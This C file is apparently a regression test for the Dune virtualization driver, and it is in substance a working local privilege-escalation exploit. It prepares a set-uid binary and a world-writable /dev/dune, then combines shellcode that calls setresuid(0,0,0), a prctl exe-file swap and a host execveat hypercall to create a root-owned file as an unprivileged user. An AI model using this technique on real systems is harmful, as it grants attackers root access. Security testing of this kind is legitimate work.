// A user of /dev/dune becomes root: a template executed in place of a set-uid file.
#define _GNU_SOURCE
#include "by_fork.h"
#include "child.h"
#include "private.h"
#include "tap.h"
#include "x86.h"
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <linux/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define LARGE_PAGE (2UL << 20)
#define ROOM (16 * 4096UL)

asm(".section .rodata\n.balign 4096\n.globl exec_code\nexec_code:\n"
    " test %rdi, %rdi\n jnz 1f\n mov %r12, %cr3\n jmp *%r13\n"
    "1: lea exec_code+4096(%rip), %rbp\n lea 4096(%rbp), %rsp\n"
    " mov %rsi, %r15\n"
    " mov $107, %eax\n call 8f\n mov %rax, %r14\n"	/* geteuid */
    " mov $117, %eax\n xor %edi,%edi\n xor %esi,%esi\n xor %edx,%edx\n call 8f\n" /* setresuid(0,0,0) */
    " mov $85, %eax\n mov %r15, %rdi\n mov $0600, %esi\n call 8f\n"	/* creat(argv[0]) */
    " mov $231, %eax\n mov $77, %edi\n test %r14,%r14\n jz 9f\n mov $78, %edi\n9: call 8f\n"
    "8: cmpq $1, 8(%rbp)\n jne 7f\n vmmcall\n ret\n7: vmcall\n ret\n.text\n");
extern const char exec_code[];
static struct made { struct { u64 pattern, vendor, z[510]; } data; u64 pml4[512], pdpt[512], pd[512]; } made __attribute__((aligned(4096)));
static int target;

static void make_private(void)
{
	struct dune_private code = { .size = sizeof(code), .flags = DUNE_PRIVATE_SEALED, .pages = 1, .address = (u64)exec_code },
	  other = { .size = sizeof(other), .pages = sizeof(made) / 4096, .address = (u64)&made };
	struct dune_state state = event_guest.state;
	struct dune_regs *regs = &event_guest.run->regs;
	u64 at;
	if (ioctl(event_guest.fd, DUNE_ADD_PRIVATE, &code)) child_fails("DUNE_ADD_PRIVATE: %s", strerror(errno));
	at = code.guest + 4096;
	made.data.vendor = event_guest.info.vendor;
	state.cr3 = at + offsetof(struct made, pml4);
	made.pml4[PRIVATE_AT >> 39 & 511] = (at + offsetof(struct made, pdpt)) | PTE_P | PTE_W;
	made.pdpt[0] = (at + offsetof(struct made, pd)) | PTE_P | PTE_W;
	made.pd[0] = (code.guest & -LARGE_PAGE) | PTE_P | PTE_W | PTE_PS;
	if (ioctl(event_guest.fd, DUNE_ADD_PRIVATE, &other) || other.guest != at) child_fails("DUNE_ADD_PRIVATE: %s", strerror(errno));
	private_show(&event_guest, code.guest & -LARGE_PAGE);
	regs->r12 = event_guest.state.cr3; regs->r13 = regs->rip;
	regs->rip = PRIVATE_AT + code.guest % LARGE_PAGE; regs->rdi = 0;
	if (guest_set_state(&event_guest, &state)) child_fails("DUNE_SET_STATE: %s", strerror(errno));
}

/* Replaces all mappings of the program's file by anonymous memory with the same contents. */
static void leave_file(void)
{
	static char text[65536];
	struct { unsigned long a, b; int prot; } m[32];
	char exe[256], *line;
	int n = 0, i, fd = open("/proc/self/maps", O_RDONLY);
	ssize_t len = 0, got;
	ssize_t l = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	exe[l] = 0;
	while ((got = read(fd, text + len, sizeof(text) - 1 - len)) > 0) len += got;
	text[len] = 0; close(fd);
	for (line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
		char r[8];
		if (!strstr(line, exe)) continue;
		sscanf(line, "%lx-%lx %4s", &m[n].a, &m[n].b, r);
		m[n].prot = (r[0] == 'r' ? 1 : 0) | (r[1] == 'w' ? 2 : 0) | (r[2] == 'x' ? 4 : 0);
		n++;
	}
	for (i = 0; i < n; i++) {
		unsigned long size = m[i].b - m[i].a;
		char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		memcpy(p, (void *)m[i].a, size);
		mprotect(p, size, m[i].prot);
		mremap(p, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)m[i].a);
	}
}

static int namespaced(void *arg)
{
	struct prctl_mm_map map = { .start_code = 0x10000000, .end_code = 0x10001000, .start_data = 0x10002000, .end_data = 0x10003000,
		.start_brk = 0x10004000, .brk = 0x10005000, .start_stack = 0x10007000, .arg_start = 0x10007000, .arg_end = 0x10007000,
		.env_start = 0x10007000, .env_end = 0x10007000, .exe_fd = target };
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0)) return errno;
	return 0;
}

static u64 become(void *arg)
{
	static char *argv[] = { "/etc/made-by-root", NULL }, *envp[] = { NULL };
	long e;
	hypercall3(SYS_fcntl, event_guest.fd, F_SETFD, 0);
	e = hypercall(DUNE_HOSTCALL | SYS_execveat, target, (long)"", (long)argv, (long)envp, AT_EMPTY_PATH, ROOM);
	return -e;
}

static void start(void *fn)
{
	static char stack[65536];
	char exe[256] = "";
	int status, pid;
	if (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000)) child_fails("setresuid");
	prctl(PR_SET_DUMPABLE, 1);
	printf("# uid %d euid %d\n", getuid(), geteuid());
	target = open("/tmp/suidprog", O_RDONLY);
	leave_file();
	pid = clone(namespaced, stack + sizeof(stack), CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
	if (pid < 0) child_fails("clone: %s", strerror(errno));
	waitpid(pid, &status, 0);
	if (readlink("/proc/self/exe", exe, 255) < 0) perror("readlink");
	printf("# child status %x, exe %s\n", status, exe); fflush(stdout);
	event_before_bind = make_private;
	event_flags = DUNE_STUB_TEMPLATE;
	event_start(0, become, NULL);
}

int main(void)
{
	struct outcome o;
	begin(120);
	unlink("/etc/made-by-root");
	if (system("cp /bin/true /tmp/suidprog && chown root:root /tmp/suidprog && chmod 4755 /tmp/suidprog; chmod 666 /dev/dune; ls -l /tmp/suidprog /dev/dune")) return 1;
	o = in_child(start, NULL, 60);
	printf("outcome: %s (77: euid 0)\n", outcome_text(o));
	fflush(stdout);
	return system("ls -l /etc/made-by-root") != 0;
}
